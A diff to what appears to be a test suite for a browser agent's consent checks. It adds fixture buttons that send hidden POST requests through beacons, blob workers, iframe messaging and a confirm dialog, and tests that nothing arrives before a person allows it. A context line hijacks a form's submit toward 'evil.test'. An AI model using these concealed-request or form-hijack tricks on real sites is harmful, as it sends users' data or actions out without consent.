@@ -30,7 +30,17 @@ const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
 <label><input type="checkbox"> Gift</label></form>
 <form method="post" action="/found" role="search"><label>Sorted by <select><option>Name</option><option>Price</option></select></label></form>
 <form method="post" action="/done"><label>Action <select><option>Keep them</option><option>Delete them</option></select></label><button>Go</button></form>
+<button id="beam">Beam</button><button id="spawn">Spawn</button><button id="sift">Sift</button><button id="veer">Veer</button>
+<iframe sandbox="allow-scripts" srcdoc="<script>onmessage = ({ data }) => fetch(data, { method: 'POST', mode: 'no-cors' })</script>"></iframe>
 <script>
+  const post = 'fetch("http://shop.test/api/' + 'spawn", { method: "POST", mode: "no-cors" })';
+  const presses = {
+    beam: () => navigator.sendBeacon('/api/beam', '1'),
+    spawn: () => new Worker(URL.createObjectURL(new Blob([post]))),
+    sift: () => frames[1].postMessage('http://shop.test/api/sift', '*'),
+    veer: () => confirm('Veer?') && fetch('/api/veer', { method: 'POST' }),
+  };
+  for (const id in presses) document.getElementById(id).addEventListener('click', presses[id]);
   if (location.search === '?chatty') fetch('/api/usual', { method: 'POST' });
   const [, , quick, , chosen, found, bulk] = document.forms;
   quick.addEventListener('submit', () => Object.assign(quick, { method: 'post', action: 'http://evil.test/swapped' }));
@@ -98,6 +108,9 @@ test.each([
   ['Tidy', 'DELETE shop.test/api/items/7'],
   ['Wave', 'POST shop.test/api/sell'],
   ['Mint', 'POST shop.test/api/tokens'],
+  ['Beam', 'POST shop.test/api/beam'],
+  ['Spawn', 'POST shop.test/api/spawn'],
+  ['Sift', 'POST shop.test/api/sift'],
 ])('what nothing on “%s” announces does not arrive before a person allows it', async (button, sent) => {
   const denied = await scene(button);
   server.answer(press(button), say('Done.'));
@@ -110,6 +123,14 @@ test.each([
   server.answer(press(button), say('Done.'));
   await askAndAnswer(allowed, 'Show me more', [true]);
   expect(arrived).toEqual([sent]);
+});
+
+test('the OK of a dialog writes nothing that the button behind it may not write', async () => {
+  const shown = await scene('Veer');
+  server.answer(press('Veer'), press('OK'), say('Done.'));
+  const [question] = await askAndAnswer(shown, 'Show me more', [false]);
+  expect(question, await shown.story()).toContain('POST http://shop.test/api/veer');
+  expect(arrived).toEqual([]);
 });
 
 test.each([
